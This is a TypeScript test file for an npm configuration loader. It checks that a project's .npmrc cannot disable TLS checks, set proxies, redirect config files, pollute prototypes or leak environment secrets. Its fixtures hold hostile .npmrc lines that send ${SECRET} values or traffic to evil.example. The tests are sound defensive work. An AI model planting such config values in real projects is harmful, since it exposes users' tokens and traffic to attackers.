import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import process from 'node:process';

import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';

import { loadNpmConfig, type NpmSettings } from '../../src/io/npm-config.js';
import { DEFAULT_NETWORK } from '../../src/io/http.js';
import { PUBLIC_REGISTRY } from '../../src/io/public-registry.js';

interface Files {
  readonly project?: string;
  readonly user?: string;
  readonly global?: string;
  readonly env?: Record<string, string>;
  readonly cliRegistry?: string;
}

let root: string;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'npm-config-'));
  await mkdir(join(root, 'parent/project'), { recursive: true });
  await mkdir(join(root, 'home'));
  await mkdir(join(root, 'prefix/etc'), { recursive: true });
});
afterEach(async () => {
  await rm(root, { recursive: true });
});

async function load(files: Files): Promise<NpmSettings> {
  const write = async (path: string, text?: string): Promise<void> => {
    if (text !== undefined) await writeFile(join(root, path), text);
  };
  await write('parent/project/.npmrc', files.project);
  await write('home/.npmrc', files.user);
  await write('prefix/etc/npmrc', files.global);
  const { cliRegistry } = files;
  return loadNpmConfig({
    projectDir: join(root, 'parent/project'),
    env: {
      HOME: join(root, 'home'),
      PREFIX: join(root, 'prefix'),
      ...files.env,
    },
    ...(cliRegistry === undefined ? {} : { cliRegistry }),
  });
}

const A = 'https://a.example/';
const B = 'https://b.example/';

describe('registries', () => {
  it('are the public one without any configuration', async () => {
    const settings = await load({});
    expect(settings.registries).toEqual({
      publicRegistry: PUBLIC_REGISTRY,
      defaultRegistry: PUBLIC_REGISTRY,
      scopes: new Map(),
      namedByProject: new Set(),
    });
    expect(settings.network).toEqual(DEFAULT_NETWORK);
    expect(settings.warnings).toEqual([]);
  });

  it.each<[string, Files, string]>([
    ['the global file', { global: `registry=${A}` }, A],
    [
      'the user over that',
      { global: `registry=${B}`, user: `registry=${A}` },
      A,
    ],
    [
      'the project over that',
      { user: `registry=${B}`, project: `registry=${A}` },
      A,
    ],
    [
      'the environment over that',
      { project: `registry=${B}`, env: { npm_config_registry: A } },
      A,
    ],
    [
      'the environment in capitals',
      { project: `registry=${B}`, env: { NPM_CONFIG_REGISTRY: A } },
      A,
    ],
    [
      'the command line over all',
      { env: { npm_config_registry: B }, cliRegistry: A },
      A,
    ],
    ['another spelling', { user: 'registry=HTTPS://A.example:443' }, A],
    ['a path without a slash', { user: `registry=${A}npm` }, `${A}npm/`],
    [
      'a variable in the user file',
      { user: 'registry=${R}', env: { R: A } },
      A,
    ],
    [
      'another user file',
      {
        user: `registry=${B}`,
        global: `registry=${A}`,
        env: { npm_config_userconfig: '/nowhere' },
      },
      A,
    ],
  ])('follow %s', async (_what, files, expected) => {
    const { registries } = await load(files);
    expect(registries.defaultRegistry).toBe(expected);
  });

  it.each<[string, Files, readonly string[]]>([
    ['its default', { project: `registry=${A}` }, [A]],
    ['a scope', { project: `@acme:registry=${A}` }, [A]],
    [
      'what the user names too',
      { project: `registry=${A}`, user: `@x:registry=${A}` },
      [],
    ],
    [
      'what the command line replaces',
      { project: `registry=${A}`, cliRegistry: B },
      [],
    ],
    ['the public one', { project: `registry=${PUBLIC_REGISTRY}` }, []],
  ])('tell what only the project names: %s', async (_what, files, expected) => {
    const { registries } = await load(files);
    expect([...registries.namedByProject]).toEqual(expected);
  });

  it('of scopes come from every file, and not from --registry', async () => {
    const { registries } = await load({
      user: `@one:registry=${A}\n@two:registry=${A}`,
      project: `@two:registry=${B}`,
      cliRegistry: 'https://c.example',
    });
    expect(registries.scopes).toEqual(
      new Map([
        ['@one', A],
        ['@two', B],
      ]),
    );
    expect(registries.defaultRegistry).toBe('https://c.example/');
  });

  it('of a parent folder are not read', async () => {
    await writeFile(join(root, 'parent/package.json'), '{"workspaces":["*"]}');
    await writeFile(join(root, 'parent/.npmrc'), `registry=${A}`);
    const { registries } = await load({ project: `@one:registry=${B}` });
    expect(registries.defaultRegistry).toBe(PUBLIC_REGISTRY);
    expect(registries.scopes).toEqual(new Map([['@one', B]]));
  });

  it.each<[string, Files]>([
    ['no URL', { user: 'registry=nonsense' }],
    ['another scheme', { user: 'registry=file:///x' }],
    ['a switch', { project: 'registry' }],
    ['a scope without URL', { project: '@one:registry=nonsense' }],
    ['no URL on the command line', { cliRegistry: 'nonsense' }],
    ['strict-ssl that is no switch', { user: 'strict-ssl=perhaps' }],
    ['a proxy that is no URL', { user: 'https-proxy=http://[' }],
  ])('are refused: %s', async (_what, files) => {
    await expect(load(files)).rejects.toMatchObject({ code: 'CONFIG_INVALID' });
  });

  it('keep user and password out of their address', async () => {
    const { registries, credentials } = await load({
      user: 'registry=https://me:p%40ss@a.example/npm',
    });
    expect(registries.defaultRegistry).toBe('https://a.example/npm/');
    expect(credentials).toMatchObject({
      registry: 'https://a.example/npm/',
      '//a.example/npm/:username': 'me',
      '//a.example/npm/:_password': Buffer.from('p@ss').toString('base64'),
    });
  });
});

describe('the network', () => {
  it('is configured by the user', async () => {
    await writeFile(join(root, 'ca.pem'), pem('one') + pem('two'));
    const { network } = await load({
      user: `strict-ssl=false\nproxy=http://p.example/\nnoproxy=a.example\ncafile=${join(root, 'ca.pem')}`,
      env: { npm_config_https_proxy: 'http://q.example/' },
    });
    expect(network).toMatchObject({
      strictSsl: false,
      proxy: 'http://q.example/',
      noProxy: 'a.example',
      ca: [pem('one').trim(), pem('two').trim()],
    });
  });

  it('is not configured by the project', async () => {
    await writeFile(join(root, 'ca.pem'), pem('evil'));
    const { network, warnings, credentials } = await load({
      project: [
        `cafile=${join(root, 'ca.pem')}`,
        'ca[]=x',
        'proxy=http://evil.example/',
        'https-proxy=http://evil.example/',
        'noproxy=*',
        'cert=x',
        'key=x',
        `//a.example/:certfile=${join(root, 'ca.pem')}`,
        `//a.example/:keyfile=${join(root, 'ca.pem')}`,
      ].join('\n'),
    });
    expect(network).toEqual(DEFAULT_NETWORK);
    expect(warnings).toHaveLength(9);
    expect(Object.keys(credentials).join()).not.toMatch(/file/);
  });

  it.each([
    'strict-ssl=false',
    'strict-ssl = "false"',
    '"strict-ssl"=false',
    'strict-ssl[]=false',
    'strict-ssl=0',
    'strict-ssl=${NOTHING}',
    'strict-ssl=null',
    'registry=https://a.example/\nstrict-ssl=false',
  ])('stays protected: the project may not say %s', async (project) => {
    const refusal = expect(load({ project })).rejects;
    await refusal.toMatchObject({ code: 'CONFIG_INVALID' });
    await refusal.toThrow(/^\.npmrc of the project: strict-ssl[^\n]*$/);
  });

  it('may be said to be protected by the project', async () => {
    const { network, warnings } = await load({ project: 'strict-ssl=true' });
    expect(network.strictSsl).toBe(true);
    expect(warnings).toEqual([]);
  });
});

describe('what the project may not do', () => {
  it.each([
    ['name the file of the user', 'userconfig=FILE'],
    ['name the global file', 'globalconfig=FILE'],
    ['name the global folder', 'prefix=FOLDER'],
    ['switch to the global mode', 'global=true\nlocation=global'],
    ['set it in a section', '[x]\nstrict-ssl=false'],
    ['set prototypes', '__proto__[]=x\nconstructor=y\n__${X?}proto__[]=z'],
  ])('%s', async (_what, project) => {
    await mkdir(join(root, 'evil/etc'), { recursive: true });
    for (const file of ['evil/file', 'evil/etc/npmrc']) {
      await writeFile(join(root, file), `strict-ssl=false\nregistry=${B}`);
    }
    const text = project
      .replace('FILE', join(root, 'evil/file'))
      .replace('FOLDER', join(root, 'evil'));
    const settings = await load({ project: text, user: `registry=${A}` });
    expect(settings.registries.defaultRegistry).toBe(A);
    expect(settings.network).toEqual(DEFAULT_NETWORK);
  });

  it.each([
    'registry=https://evil.example/${SECRET}/',
    '@acme:registry=https://${SECRET}.evil.example/',
    '//evil.example/:_authToken=${SECRET}',
    '//evil.example/:_authToken=${SECRET?}',
    '//evil.example/:_password[]=${SECRET}',
    '//${SECRET}.evil.example/:_authToken=x',
    '@${SECRET}:registry=https://evil.example/',
  ])('read the environment by %s', async (project) => {
    const settings = await load({ project, env: { SECRET: 's3cret' } });
    expect(settings.warnings).toHaveLength(1);
    expect(settings.registries.defaultRegistry).toBe(PUBLIC_REGISTRY);
    expect(settings.registries.scopes.size).toBe(0);
    expect(JSON.stringify(settings)).not.toContain('s3cret');
  });

  it('let the token of the user travel unencrypted', async () => {
    const user = '//a.example/:_authToken=s3cret';
    const settings = await load({
      user,
      project: 'registry=http://a.example/',
    });
    expect(settings.registries.defaultRegistry).toBe(PUBLIC_REGISTRY);
    expect(settings.warnings).toHaveLength(1);
  });

  it.each([
    ['a folder', async (path: string) => mkdir(path)],
    ['a link to a device', async (path: string) => symlink('/dev/zero', path)],
    [
      'a file of 2 MiB',
      async (path: string) => writeFile(path, '#'.repeat(2 * 1024 * 1024)),
    ],
  ])('have %s for .npmrc', async (_what, make) => {
    await make(join(root, 'parent/project/.npmrc'));
    const refusal = expect(load({})).rejects;
    await refusal.toMatchObject({ code: 'CONFIG_INVALID' });
    await refusal.toThrow(/expected a file of at most/);
  });
});

describe('what the project may do', () => {
  it('is to name registries and literal tokens for them', async () => {
    const { registries, credentials, warnings } = await load({
      project: `registry=${A}\n//a.example/:_authToken=literal\nsave-exact=true\nloglevel=\${T}`,
    });
    expect(registries.defaultRegistry).toBe(A);
    expect(credentials).toMatchObject({ '//a.example/:_authToken': 'literal' });
    expect(warnings).toEqual([]);
  });

  it('includes plain http on loopback', async () => {
    const { registries } = await load({
      user: '//127.0.0.1:4873/:_authToken=x',
      project: 'registry=http://127.0.0.1:4873/',
    });
    expect(registries.defaultRegistry).toBe('http://127.0.0.1:4873/');
  });
});

describe('the user', () => {
  it('in the home folder is not taken for the project', async () => {
    await writeFile(join(root, 'home/.npmrc'), 'strict-ssl=false');
    const settings = await loadNpmConfig({
      projectDir: join(root, 'home'),
      env: { HOME: join(root, 'home'), PREFIX: join(root, 'prefix') },
    });
    expect(settings.network.strictSsl).toBe(false);
  });

  it('may expand variables into tokens', async () => {
    const { credentials } = await load({
      user: '//a.example/:_authToken=${T}',
      env: { T: 'token' },
    });
    expect(credentials).toMatchObject({ '//a.example/:_authToken': 'token' });
  });

  it('hears of a file that cannot be read', async () => {
    await mkdir(join(root, 'home/.npmrc'));
    await expect(load({})).rejects.toMatchObject({ code: 'CONFIG_INVALID' });
  });
});

it('prints nothing and leaves the environment alone', async () => {
  const write = vi.spyOn(process.stderr, 'write').mockReturnValue(true);
  const before = { ...process.env };
  await load({
    user: 'unknown=1\nkey=k\nuser-agent=x\ncache=/x\nproduction=true',
    project: 'unknown=1\nproxy=x\nprefix=/x',
    env: { npm_config_unknown: '1', npm_config_user_agent: 'x' },
  });
  expect(write).not.toHaveBeenCalled();
  expect({ ...process.env }).toEqual(before);
  write.mockRestore();
});

function pem(text: string): string {
  return `-----BEGIN CERTIFICATE-----\n${text}\n-----END CERTIFICATE-----\n`;
}

describe('started by npm, which exports the project’s settings', () => {
  const STARTED = { npm_execpath: '/usr/lib/npm/bin/npm-cli.js' };

  it.each<[string, Files, string, readonly string[]]>([
    [
      'a registry of the project stays the project’s',
      { project: `registry=${A}`, env: { npm_config_registry: A } },
      A,
      [A],
    ],
    [
      'in any spelling',
      { project: `registry=${A}`, env: { NPM_CONFIG_REGISTRY: A } },
      A,
      [A],
    ],
    [
      'a registry that the project does not name is the user’s',
      {
        project: '@acme:registry=https://acme.example/',
        env: { npm_config_registry: B },
      },
      B,
      ['https://acme.example/'],
    ],
  ])('%s', async (_what, files, registry, namedByProject) => {
    const env = { ...STARTED, ...files.env };
    const { registries } = await load({ ...files, env });
    expect(registries.defaultRegistry).toBe(registry);
    expect([...registries.namedByProject]).toEqual(namedByProject);
  });

  it('takes no proxy from it, and no place of the user’s file', async () => {
    const forged = join(root, 'parent/project/forged');
    await writeFile(forged, `registry=${B}`);
    const { registries, network } = await load({
      project: `proxy=http://127.0.0.1:1/\nuserconfig=./forged`,
      user: `registry=${A}`,
      env: {
        ...STARTED,
        npm_config_proxy: 'http://127.0.0.1:1/',
        npm_config_userconfig: forged,
      },
    });
    expect(network.proxy).toBeNull();
    expect(registries.defaultRegistry).toBe(A);
  });

  it('nor from another project that npm was started in', async () => {
    const other = join(root, 'other');
    await mkdir(other);
    await writeFile(join(other, '.npmrc'), `registry=${B}`);
    const { registries } = await load({
      env: {
        ...STARTED,
        npm_config_local_prefix: other,
        npm_config_registry: B,
      },
    });
    expect(registries.defaultRegistry).toBe(PUBLIC_REGISTRY);
  });

  it('follows all of the environment when started directly', async () => {
    const { registries } = await load({
      project: `registry=${A}`,
      env: { npm_config_registry: A },
    });
    expect([...registries.namedByProject]).toEqual([]);
  });
});

describe('patience', () => {
  const NOTHING = {
    retries: null,
    factor: null,
    minWaitMs: null,
    maxWaitMs: null,
    timeoutMs: null,
    maxSockets: null,
  };

  it('is this program’s own where nobody has written anything', async () => {
    const { patience, network } = await load({});
    expect(patience).toEqual(NOTHING);
    expect(network.maxSockets).toBe(DEFAULT_NETWORK.maxSockets);
  });

  it.each<[string, Files]>([
    ['the user', { user: 'fetch-retries=5\nfetch-timeout=9000' }],
    ['the machine', { global: 'fetch-retries=5\nfetch-timeout=9000' }],
    ['the project', { project: 'fetch-retries=5\nfetch-timeout=9000' }],
    [
      'the environment, before the others',
      {
        env: {
          npm_config_fetch_retries: '5',
          npm_config_fetch_timeout: '9000',
        },
        user: 'fetch-retries=1',
        project: 'fetch-timeout=1',
      },
    ],
  ])('is that of %s', async (_who, files) => {
    const { patience, warnings } = await load(files);
    expect(patience).toEqual({ ...NOTHING, retries: 5, timeoutMs: 9000 });
    expect(warnings).toEqual([]);
  });

  it('takes the waits and the number of connections', async () => {
    const { patience, network } = await load({
      user: 'fetch-retry-factor=3\nfetch-retry-mintimeout=10\nfetch-retry-maxtimeout=200\nmaxsockets=4',
    });
    expect(patience).toEqual({
      ...NOTHING,
      factor: 3,
      minWaitMs: 10,
      maxWaitMs: 200,
      maxSockets: 4,
    });
    expect(network.maxSockets).toBe(4);
  });

  it.each<[string, string, number | null]>([
    ['fetch-retries', '99999', 10],
    ['fetch-retries', 'many', null],
    ['fetch-retries', '-1', null],
    ['fetch-retries', '${RETRIES}', null],
  ])('has limits: %s=%s', async (key, value, retries) => {
    const { patience } = await load({
      project: `${key}=${value}`,
      env: { RETRIES: '3' },
    });
    expect(patience?.retries).toBe(retries);
  });

  it('knows no audit without a time limit', async () => {
    const { patience } = await load({ user: 'fetch-timeout=0' });
    expect(patience?.timeoutMs).toBeNull();
    const long = await load({ user: 'fetch-timeout=999999999' });
    expect(long.patience?.timeoutMs).toBe(600_000);
  });
});

describe('replace-registry-host', () => {
  it.each<[string, Files, string | undefined]>([
    ['is npm’s own where nobody says otherwise', {}, undefined],
    ['of the user', { user: 'replace-registry-host=always' }, 'always'],
    [
      'of the environment',
      { env: { npm_config_replace_registry_host: 'never' } },
      'never',
    ],
    ['as a host', { user: 'replace-registry-host=old.example' }, 'old.example'],
  ])('%s', async (_what, files, expected) => {
    const { registries } = await load(files);
    expect(registries.replacedHost).toBe(expected);
  });

  it('of the project is ignored, with a warning', async () => {
    const { registries, warnings } = await load({
      project: 'replace-registry-host=always',
    });
    expect(registries.replacedHost).toBeUndefined();
    expect(warnings).toEqual([
      expect.stringContaining('replace-registry-host is ignored'),
    ]);
  });
});
